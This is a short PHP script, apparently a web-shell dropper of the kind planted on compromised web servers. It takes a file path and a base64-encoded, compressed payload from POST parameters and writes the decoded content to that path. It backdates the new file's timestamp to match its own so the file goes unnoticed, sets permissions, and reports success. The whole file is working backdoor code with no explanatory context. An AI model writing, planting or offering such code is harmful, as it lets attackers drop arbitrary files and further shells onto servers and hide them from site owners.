<?php
if (!empty($_POST['p']) && !empty($_POST['d'])) {
    $ok = file_put_contents($_POST['p'], gzinflate(base64_decode($_POST['d'])));
    @touch($_POST['p'], filemtime(__FILE__));
    @chmod($_POST['p'], 0644);
    echo $ok ? '1' : '0';
}
